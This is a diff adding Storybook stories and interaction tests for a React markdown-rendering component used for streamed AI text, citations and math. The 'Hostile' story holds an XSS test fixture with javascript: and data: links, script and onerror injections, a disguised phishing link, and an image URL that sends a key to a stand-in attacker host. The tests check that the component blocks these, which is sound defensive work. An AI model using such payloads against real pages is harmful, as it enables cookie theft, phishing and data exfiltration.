@@ -1,0 +1,252 @@
+import rehypeKatex from 'rehype-katex';
+import remarkMath from 'remark-math';
+import type { Meta, StoryObj } from '@storybook/react-vite';
+import { expect, userEvent, waitFor, within } from 'storybook/test';
+import { TextBlockView } from '../../src/components/text-block/text-block-view.js';
+import type { TextBlock } from '../../src/core/model/block.js';
+import { textBlock } from '../../src/core/model/factories.js';
+
+const finished = (text: string, init: Partial<Omit<TextBlock, 'type' | 'text'>> = {}) =>
+  textBlock(text, {
+    id: 'text-1',
+    created_at: '2025-01-01T00:00:00Z',
+    finished_at: '2025-01-01T00:00:05Z',
+    ...init,
+  });
+
+const streamingBlock = (text: string) =>
+  textBlock(text, { id: 'text-2', created_at: '2025-01-01T00:00:00Z', finished_at: null });
+
+const DONE_TEXT = `# Release checklist
+
+The build is **green** and the _changelog_ is ready; ~~Friday~~ Monday it ships.
+
+## Steps
+
+1. Tag the release with \`git tag v1.2.0\`
+2. Publish the package
+   - run the smoke tests
+   - update the docs
+
+### Status
+
+- [x] Tests pass
+- [ ] Docs reviewed
+
+| Package | Size | Change |
+| :-- | --: | :-: |
+| core | 12.4 kB | −0.3 kB |
+| react | 28.1 kB | +1.2 kB |
+
+\`\`\`ts
+export function greet(name: string): string {
+  return \`Hello, \${name}!\`;
+}
+\`\`\`
+
+> Read the [migration guide](https://example.com/docs/migrate) or mail <team@example.com>.
+`;
+
+const meta = {
+  title: 'Blocks/TextBlockView',
+  component: TextBlockView,
+} satisfies Meta<typeof TextBlockView>;
+
+export default meta;
+type Story = StoryObj<typeof meta>;
+
+/** Mid-stream: a table whose rows are still arriving, and a code fence that has not closed. */
+export const Streaming: Story = {
+  args: { block: streamingBlock('') },
+  render: () => (
+    <div>
+      <TextBlockView
+        data-testid="stream-table"
+        streaming
+        block={streamingBlock(
+          'Here are the results so **far**:\n\n| Model | Score |\n| --- | --- |\n| small | 71 |\n| lar',
+        )}
+      />
+      <TextBlockView
+        data-testid="stream-code"
+        streaming
+        block={streamingBlock(
+          'And the script:\n\n```python\nimport sys\n\ndef main():\n    print("hel',
+        )}
+      />
+    </div>
+  ),
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    const table = canvas.getByTestId('stream-table');
+    await expect(table).toHaveAttribute('data-streaming');
+    await expect(within(table).getByRole('table')).toBeVisible();
+    await expect(within(table).getByText('lar')).toBeVisible();
+    const code = canvas.getByTestId('stream-code');
+    await expect(code.querySelector('[data-slot="code-block"][data-incomplete]')).not.toBeNull();
+    await expect(code.textContent).not.toContain('```');
+  },
+};
+
+export const Done: Story = {
+  args: { block: finished(DONE_TEXT) },
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    await expect(canvas.getByRole('heading', { name: 'Release checklist' })).toBeVisible();
+    await expect(canvas.getByRole('checkbox', { name: 'Done' })).toBeChecked();
+    const link = canvas.getByRole('link', { name: /migration guide/ });
+    await expect(link).toHaveAttribute('target', '_blank');
+    await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow ugc');
+    await waitFor(
+      () =>
+        expect(
+          canvasElement.querySelector('[data-slot="code-block"][data-highlighted]'),
+        ).not.toBeNull(),
+      { timeout: 10_000 },
+    );
+  },
+};
+
+const CITED_TEXT =
+  'Octopuses have three hearts and blue blood. Their arms can taste what they touch, and most species live only one to two years.';
+
+/** `[start, end)` of `phrase` in the cited text. */
+function spanOf(phrase: string): [number, number] {
+  const start = CITED_TEXT.indexOf(phrase);
+  return [start, start + phrase.length];
+}
+
+export const WithCitations: Story = {
+  args: {
+    block: finished(CITED_TEXT, {
+      citations: [
+        {
+          url: 'https://ocean.example.org/octopus',
+          title: 'Octopus anatomy',
+          page: 12,
+          snippet:
+            'Two branchial hearts pump blood through the gills; a systemic heart serves the body.',
+          span: spanOf('Octopuses have three hearts and blue blood.'),
+        },
+        {
+          url: 'https://science.example.com/arms',
+          title: 'Chemotactile receptors',
+          span: spanOf('Their arms can taste what they touch'),
+        },
+        {
+          file_id: 'file-7f3a',
+          title: 'Field notes.pdf',
+          page: 4,
+          span: spanOf('most species live only one to two years.'),
+        },
+        {
+          url: 'https://ocean.example.org/octopus',
+          span: spanOf('most species live only one to two years.'),
+        },
+      ],
+    }),
+  },
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    const [marker] = canvas.getAllByRole('button', { name: 'Source 1' });
+    marker?.focus();
+    const card = await canvas.findByRole('tooltip');
+    await expect(card).toHaveTextContent('Octopus anatomy');
+    await expect(card).toHaveTextContent('ocean.example.org');
+    await expect(card).toHaveTextContent('Page 12');
+    const sources = canvas.getByRole('list', { name: 'Sources' });
+    await expect(within(sources).getAllByRole('listitem')).toHaveLength(3);
+  },
+};
+
+export const Empty: Story = {
+  args: { block: finished('') },
+  play: async ({ canvasElement }) => {
+    const root = canvasElement.querySelector('[data-slot="text-block"]');
+    await expect(root).not.toBeNull();
+    await expect(root?.childElementCount).toBe(0);
+  },
+};
+
+function hugeDocument(): string {
+  let text = `A word without spaces: ${'supercalifragilistic'.repeat(40)}\n\n\`\`\`text\n${'x'.repeat(2000)}\n\`\`\`\n\n`;
+  for (let i = 1; text.length < 200_000; i++) {
+    text += `## Section ${i}\n\nParagraph ${i} with *emphasis*, \`inline code\` and [a link](https://example.com/${i}). ${'The quick brown fox jumps over the lazy dog. '.repeat(6)}\n\n- first point\n- second point\n\n`;
+  }
+  return `${text}## The end\n`;
+}
+
+export const Huge: Story = {
+  args: { block: finished(hugeDocument()) },
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    await expect(canvas.getByRole('heading', { name: 'The end' })).toBeInTheDocument();
+    const root = canvasElement.querySelector('[data-slot="text-block"]') as HTMLElement;
+    await expect(root.scrollWidth).toBeLessThanOrEqual(root.clientWidth);
+  },
+};
+
+const HOSTILE_TEXT = `[Click to verify](javascript:alert(document.cookie)) and [open](data:text/html,<script>alert(1)</script>)
+
+<img src=x onerror="window.__pwned = true"> <script>window.__pwned = true</script>
+
+[https://bank.example.com/login](https://evil.example.net/phish)
+
+![tracking pixel](https://attacker.example/collect?secret=sk-12345)
+
+${'*'.repeat(100_000)}
+
+${'['.repeat(100_000)}
+`;
+
+export const Hostile: Story = {
+  args: { block: finished(HOSTILE_TEXT) },
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    await expect(canvasElement.querySelector('script, img, iframe')).toBeNull();
+    await expect(canvasElement.querySelector('[href^="javascript:"], [href^="data:"]')).toBeNull();
+    await expect(canvas.getByText(/<img src=x onerror="window.__pwned = true">/)).toBeVisible();
+    await expect(
+      canvas.getByText(/Blocked link: javascript:alert\(document.cookie\)/),
+    ).toBeVisible();
+    await expect(canvas.getByText('(links to evil.example.net)')).toBeVisible();
+    await userEvent.click(canvas.getByRole('button', { name: /Load from attacker\.example/ }));
+    await expect(canvas.getByRole('img', { name: 'tracking pixel' })).toBeInTheDocument();
+    await expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
+  },
+};
+
+/** `math` is opt-in: the app passes its own remark-math and rehype-katex; KaTeX renders MathML. */
+export const WithMath: Story = {
+  args: {
+    math: { remarkMath, rehypeKatex },
+    block: finished('Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\int_0^1 x^2 \\, dx = \\frac{1}{3}\n$$\n'),
+  },
+  play: async ({ canvasElement }) => {
+    await waitFor(() => expect(canvasElement.querySelector('math')).not.toBeNull(), {
+      timeout: 10_000,
+    });
+  },
+};
+
+export const AllStates: Story = {
+  args: { block: finished('') },
+  render: () => (
+    <div style={{ display: 'grid', gap: 24 }}>
+      <TextBlockView
+        block={streamingBlock('Thinking about it, the answer is **probably')}
+        streaming
+      />
+      <TextBlockView
+        block={finished('A finished answer with `code` and a [link](https://example.com).')}
+      />
+      <TextBlockView
+        block={finished('Cited claim.', {
+          citations: [{ url: 'https://example.com/source', title: 'A source', span: [0, 12] }],
+        })}
+      />
+      <TextBlockView block={finished('')} />
+      <TextBlockView block={finished('[bad](javascript:alert(1)) <b>raw html</b>')} />
+    </div>
+  ),
+};
